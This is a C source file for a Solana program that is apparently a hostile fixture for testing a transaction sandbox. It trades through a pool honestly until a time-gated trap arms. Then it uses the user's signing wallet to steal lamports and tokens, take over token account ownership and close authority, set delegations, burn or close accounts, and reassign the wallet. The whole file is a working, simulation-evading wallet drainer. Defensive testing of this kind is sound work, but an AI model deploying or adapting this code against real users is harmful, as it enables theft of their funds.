// A program that trades through the pool like any other, and steals once its trap is armed. Every simulation before
// that shows honest behaviour. The sandbox writes the trap's account, so the attack can start at a slot or at a state
// of the market. Any program that receives the wallet as a writable signer can do the same.
#include "solana.h"

// The accounts of the pool, followed by these.
#define SELL 0xad837f01a485e633ULL
#define BUY_ACCOUNTS 16
#define SELL_ACCOUNTS 14
enum { MINT = 2, USER = 6, SYSTEM = 7, BUY_TOKEN = 8, SELL_TOKEN = 9, POOL_PROGRAM = 11 };
// `PREY`: token account of the wallet for the mint `PREY_MINT`. `LOOT`: token account of the thief for the same mint.
enum { TRAP, THIEF, LOOT, PREY, PREY_MINT, ADDED };

typedef struct { u64 attack, fromSlot, amount; } Trap;

// Same numbers as in src/sandbox/chain/hostile-program.ts.
enum {
  TAKE_LAMPORTS = 1, TAKE_TOKENS, TAKE_ACCOUNT, TAKE_DELEGATION, TAKE_CLOSING, ASSIGN_WALLET, ALLOCATE_WALLET, CLOSE_ACCOUNT, BURN_TOKENS,
  GIVE_NOTHING,
};

INLINE u64 trade(Context *context, u64 count) {
  callTo(context, &context->accounts[POOL_PROGRAM]);
  for (u64 i = 0; i < count; i++)
    withAccount(context, &context->accounts[i], context->accounts[i].isWritable, context->accounts[i].isSigner);
  context->call.data = context->data;
  context->call.dataLength = context->dataLength;
  return invoke(context, 0);
}

// SetAuthority (6): authority type 2 is the owner, 3 is the close authority.
OUTLINE u64 setAuthority(Context *context, const Account *token, const Account *added, u8 kind) {
  callTo(context, token);
  withAccount(context, &added[PREY], 1, 0);
  withAccount(context, &context->accounts[USER], 0, 1);
  withByte(context, 6);
  withByte(context, kind);
  withByte(context, 1);
  withKey(context, added[THIEF].key);
  return invoke(context, 0);
}

// Approve (4), Burn (8), CloseAccount (9) on the wallet's token account, signed by the wallet.
OUTLINE u64 tokenCall(Context *context, const Account *token, const Account *added, u8 kind, u64 amount) {
  const Account *second = &added[kind == 8 ? PREY_MINT : THIEF];
  callTo(context, token);
  withAccount(context, &added[PREY], 1, 0);
  withAccount(context, second, kind != 4, 0);
  withAccount(context, &context->accounts[USER], 0, 1);
  withByte(context, kind);
  if (kind != 9) withU64(context, amount);
  return invoke(context, 0);
}

// System: Assign (1), Allocate (8).
OUTLINE u64 spoilWallet(Context *context, u32 kind) {
  callTo(context, &context->accounts[SYSTEM]);
  withAccount(context, &context->accounts[USER], 1, 1);
  withU32(context, kind);
  if (kind == 1) withKey(context, context->program);
  else withU64(context, 8);
  return invoke(context, 0);
}

u64 entrypoint(u8 *input) {
  Context *context = CONTEXT;
  TRY(readInput(context, input));
  REQUIRE(context->dataLength >= 8, INSTRUCTION_UNKNOWN);
  u64 isSale = readU64(context->data) == SELL;
  u64 count = isSale ? SELL_ACCOUNTS : BUY_ACCOUNTS;
  REQUIRE(context->count >= count + ADDED, TOO_FEW_ACCOUNTS);
  const Account *all = context->accounts, *added = &all[count], *token = &all[isSale ? SELL_TOKEN : BUY_TOKEN];
  REQUIRE(added[TRAP].dataLength >= sizeof(Trap), NOT_INITIALIZED);
  const Trap *trap = (const Trap *)added[TRAP].data;
  Clock clock;
  TRY(sol_get_clock_sysvar(&clock));
  u64 attack = clock.slot >= trap->fromSlot ? trap->attack : 0;

  if (attack != GIVE_NOTHING) TRY(trade(context, count));
  if (attack == TAKE_LAMPORTS || attack == GIVE_NOTHING)
    return transferLamports(context, &all[SYSTEM], &all[USER], &added[THIEF], trap->amount);
  if (attack == TAKE_TOKENS)
    return transferTokens(context, token, &added[PREY], &added[PREY_MINT], &added[LOOT], &all[USER], trap->amount, 0);
  if (attack == TAKE_ACCOUNT) return setAuthority(context, token, added, 2);
  if (attack == TAKE_CLOSING) return setAuthority(context, token, added, 3);
  if (attack == TAKE_DELEGATION) return tokenCall(context, token, added, 4, trap->amount);
  if (attack == BURN_TOKENS) return tokenCall(context, token, added, 8, trap->amount);
  if (attack == CLOSE_ACCOUNT) return tokenCall(context, token, added, 9, 0);
  if (attack == ASSIGN_WALLET) return spoilWallet(context, 1);
  if (attack == ALLOCATE_WALLET) return spoilWallet(context, 8);
  return 0;
}
